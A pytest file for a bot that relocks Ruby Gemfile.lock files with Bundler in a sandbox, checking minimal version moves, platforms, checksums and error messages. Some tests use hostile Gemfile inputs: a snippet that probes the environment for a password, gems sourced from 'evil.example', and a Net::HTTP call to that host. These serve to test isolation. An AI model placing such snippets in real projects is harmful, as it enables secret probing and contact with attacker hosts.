"""Gemfile.lock is made anew by the real Bundler in the jail: only what must move moves, and no gem is fetched."""

from __future__ import annotations

from collections.abc import AsyncIterator, Mapping
from contextlib import AbstractAsyncContextManager
from pathlib import Path
from typing import Any

import pytest

from bot.core.errors import Permanent, Transient
from bot.core.lockfiles import Moved
from bot.core.model import Component
from bot.lab.host import Host
from bot.lab.locking import bundler
from bot.lab.locks import LockJob, Locksmith, Relocked, RubyGems
from bot.tools.http import Reach
from bot.tools.secrets import Secret
from tests.lab import registries
from tests.lab.gem_locks import lock_of
from tests.real import smithing

TOOLS = (bundler.find,)
GEMS: dict[str, dict[str, Mapping[str, str]]] = {
    "pad": {
        "1.0.0": {},
        "1.1.0": {"tie": "~> 1.0"},
        "1.2.0": {"tie": ">= 1.1&< 2"},
        "1.9.0": {},
        "2.0.0": {"tie": ">= 2"},
    },
    "tie": {"1.0.0": {}, "1.1.0": {}, "1.2.0": {}},
    "top": {"1.0.0": {"tie": "~> 1.0"}, "1.5.0": {"tie": "~> 1.0"}},
    "raw": {
        "1.0.0": {},
        "1.0.0-java": {},
        "1.0.0-x86_64-linux": {},
        "1.1.0": {},
        "1.1.0-java": {},
        "1.1.0-x86_64-linux": {},
    },
}
PAD = Component(name="pad", ecosystem="gem")


@pytest.fixture
async def index(tmp_path: Path) -> AsyncIterator[registries.Gems]:
    """With the gems above."""
    async with registries.Gems(gems={**GEMS}).running(tmp_path) as made:
        yield made


def gemfile(pad: str, more: str = "") -> str:
    """One that asks so for pad."""
    return f'source "https://rubygems.org"\ngem "pad", "{pad}"\ngem "top", "~> 1.0"\n{more}'


def locked(pad: str = "1.0.0", tie: str = "1.0.0", asked: str = "= 1.0.0", **more: Any) -> str:
    """pad and top, which needs tie."""
    needs = {"1.1.0": ["tie (~> 1.0)"], "1.2.0": ["tie (>= 1.1, < 2)"]}.get(pad, [])
    held = {("pad", pad): needs, ("tie", tie): [], ("top", "1.0.0"): ["tie (~> 1.0)"]}
    return lock_of(held, [f"pad ({asked})", "top (~> 1.0)"], **more)


def smith(host: Host, gems: RubyGems, **reach: Any) -> AbstractAsyncContextManager[Locksmith]:
    """The locksmith of a machine where this server stands for rubygems.org."""
    return smithing.smith(host, Reach(trusted={"127.0.0.1", "localhost"}, **reach), gems=gems)


def job(version: str, text: str, **more: str) -> LockJob:
    """pad moves to a version. more: other files."""
    files = {"Gemfile": text, "Gemfile.lock": locked(), **more}
    return LockJob(files=files, lock="Gemfile.lock", manifest="Gemfile", component=PAD, version=version)


async def relocked(host: Host, index: registries.Gems, work: LockJob) -> Relocked:
    """What comes of it on a machine that knows this server alone."""
    async with smith(host, RubyGems(index=index.url)) as one:
        return await one.lock(work)


@pytest.mark.parametrize(("said", "kept"), [("1.1.0", "= 1.1.0"), ("~> 1.1", "~> 1.1")])
async def test_only_what_must_move_moves(best: Host, index: registries.Gems, said: str, kept: str) -> None:
    """To the version that was asked for, not the newest of the range; all else stays, to the last byte."""
    made = await relocked(best, index, job("1.1.0", gemfile(said)))
    assert made.files == {"Gemfile.lock": locked("1.1.0", asked=kept)}
    assert made.moved == (Moved("pad", "1.0.0", "1.1.0"),)
    assert all(path == "/versions" or path.startswith("/info/") for path in index.seen)


async def test_what_the_new_version_needs_moves_with_it(best: Host, index: registries.Gems) -> None:
    """And is named; what need not move does not."""
    made = await relocked(best, index, job("1.2.0", gemfile("1.2.0")))
    assert made.moved == (Moved("pad", "1.0.0", "1.2.0"), Moved("tie", "1.0.0", "1.2.0"))
    assert made.files == {"Gemfile.lock": locked("1.2.0", "1.2.0", "= 1.2.0")}


async def test_platforms_and_names_stay_as_they_are(best: Host, index: registries.Gems) -> None:
    """This machine's own is not added, each file of a gem for its platform follows, and so do line ends."""
    raw = Component(name="raw", ecosystem="gem")
    for platforms in (["java"], ["ruby"], ["java", "x86_64-linux"], ["arm64-darwin-23", "java"]):
        kinds = [f"-{one}" for one in platforms if one not in ("ruby", "arm64-darwin-23")]
        kinds = ["", *kinds] if "ruby" in platforms or "arm64-darwin-23" in platforms else kinds
        texts = [
            lock_of({("raw", f"{at}{kind}"): [] for kind in kinds}, [f"raw (= {at})"], platforms=platforms)
            for at in ("1.0.0", "1.1.0")
        ]
        files = {"Gemfile": 'source "https://rubygems.org"\ngem "raw", "1.1.0"\n', "Gemfile.lock": texts[0]}
        work = LockJob(files=files, lock="Gemfile.lock", manifest="Gemfile", component=raw, version="1.1.0")
        made = await relocked(best, index, work)
        assert made.files == {"Gemfile.lock": texts[1]}
        assert made.moved == (Moved("raw", "1.0.0", "1.1.0"),)
    old = locked().replace("\n", "\r\n")
    made = await relocked(best, index, job("1.1.0", gemfile("1.1.0"), **{"Gemfile.lock": old}))
    assert made.files["Gemfile.lock"] == locked("1.1.0", asked="= 1.1.0").replace("\n", "\r\n")


async def test_a_gemspec_and_what_it_asks_is_read(best: Host, index: registries.Gems) -> None:
    """In the jail, where git has nothing to list; the gem itself stays what it is."""
    files = {
        "a/Gemfile": 'source "https://rubygems.org"\ngemspec\n',
        "a/app.gemspec": 'require_relative "lib/app/version"\nGem::Specification.new do |s|\n  s.name = "app"\n'
        '  s.version = App::VERSION\n  s.summary = "x"\n  s.authors = ["x"]\n'
        '  s.files = `git ls-files -z`.split("\\0")\n'
        '  s.add_dependency "pad", "~> 1.1"\nend\n',
        "a/lib/app/version.rb": 'module App\n  VERSION = "0.1.0"\nend\n',
    }

    def text(pad: str, wish: str, needs: list[str]) -> str:
        held = {("pad", pad): needs, **({("tie", "1.0.0"): []} if needs else {})}
        own = f"PATH\n  remote: .\n  specs:\n    app (0.1.0)\n      pad ({wish})\n\n"
        return own + lock_of(held, ["app!"])

    files["a/Gemfile.lock"] = text("1.0.0", "~> 1.0", [])
    work = LockJob(files=files, lock="a/Gemfile.lock", manifest="a/app.gemspec", component=PAD, version="1.1.0")
    made = await relocked(best, index, work)
    assert "pad (1.1.0)" in made.files["a/Gemfile.lock"] and "app (0.1.0)" in made.files["a/Gemfile.lock"]
    assert made.moved == (Moved("pad", "1.0.0", "1.1.0"), Moved("tie", "", "1.2.0"))


async def test_a_server_with_a_login_over_tls(best: Host, tmp_path: Path) -> None:
    """The login reaches the server; it is neither in the lock nor in the jail, however curious the Gemfile is."""
    private = registries.Gems(gems=GEMS, tls=True, login="hunter2")
    spying = 'raise "seen" if ENV.to_h.values.join.include?("hunter2") || Dir.exist?("/var/lib/dpkg")\n'
    async with private.running(tmp_path):
        there = RubyGems(index=private.url, login=Secret("hunter2"))
        async with smith(best, there, ca=private.pem) as one:
            made = await one.lock(job("1.1.0", spying + gemfile("1.1.0")))
    assert made.files == {"Gemfile.lock": locked("1.1.0", asked="= 1.1.0")}
    assert set(private.logins) == {"hunter2"}


async def refused(host: Host, index: registries.Gems, work: LockJob) -> str:
    """Why it is refused, in the words that a person gets."""
    return await smithing.refusal(relocked(host, index, work))


async def test_what_cannot_be_locked_is_told_in_bundlers_words(best: Host, index: registries.Gems) -> None:
    """A version that contradicts another gem's wishes, one for another Ruby, and a Gemfile that is none."""
    assert "tie" in (said := await refused(best, index, job("2.0.0", gemfile("2.0.0")))) and "\n" not in said
    assert said.startswith("Gemfile.lock: Bundler cannot lock pad 2.0.0: ") and "Fetching" not in said
    index.more = {"pad 1.1.0": ">= 99"}
    assert "99" in await refused(best, index, job("1.1.0", gemfile("1.1.0")))
    assert "boom" in await refused(best, index, job("1.1.0", gemfile("1.1.0", 'raise "boom"\n')))


async def test_a_gem_from_elsewhere_leads_nowhere(best: Host, index: registries.Gems) -> None:
    """Whatever a Gemfile asks for, and whether the lock says so already."""
    sly = 'gem "sly", git: "https://evil.example/sly"\n'
    assert "https://evil.example" in await refused(best, index, job("1.1.0", gemfile("1.1.0", sly)))
    sly = 'source "https://evil.example" do\n  gem "sly"\nend\n'
    assert "https://evil.example" in await refused(best, index, job("1.1.0", gemfile("1.1.0", sly)))
    assert not any("sly" in path for path in index.seen)


async def test_a_gemfile_reaches_nobody(best: Host, index: registries.Gems) -> None:
    """It may run what it likes; what it wrote comes to nothing but the lock."""
    sly = 'require "net/http"\nNet::HTTP.get(URI("http://evil.example/"))\n'
    assert "evil.example" in await refused(best, index, job("1.1.0", sly + gemfile("1.1.0")))


async def test_a_gem_that_is_there_no_more_holds_nothing_up(best: Host, index: registries.Gems) -> None:
    """What was locked of another gem is gone from the index: it stays as it was."""
    index.gems["top"] = {"1.5.0": {"tie": "~> 1.0"}}
    made = await relocked(best, index, job("1.1.0", gemfile("1.1.0")))
    assert made.files == {"Gemfile.lock": locked("1.1.0", asked="= 1.1.0")}


async def test_a_server_that_is_away_is_worth_another_try(best: Host, index: registries.Gems) -> None:
    """Nothing is said about the update then."""
    index.fail = 503
    with pytest.raises(Transient):
        await relocked(best, index, job("1.1.0", gemfile("1.1.0")))


async def test_checksums_need_a_bundler_that_knows_them(best: Host, index: registries.Gems) -> None:
    """An older one would drop them without a word; a newer one keeps them."""
    text = locked().replace("BUNDLED WITH", f"CHECKSUMS\n  pad (1.0.0) sha256={'a' * 64}\n\nBUNDLED WITH")
    work = job("1.1.0", gemfile("1.1.0"), **{"Gemfile.lock": text})
    if (await bundler.find()).version < (2, 6):
        with pytest.raises(Permanent, match=r"holds checksums, which Bundler .* does not know"):
            await relocked(best, index, work)
    else:
        assert "pad (1.1.0) sha256=" in (await relocked(best, index, work)).files["Gemfile.lock"]
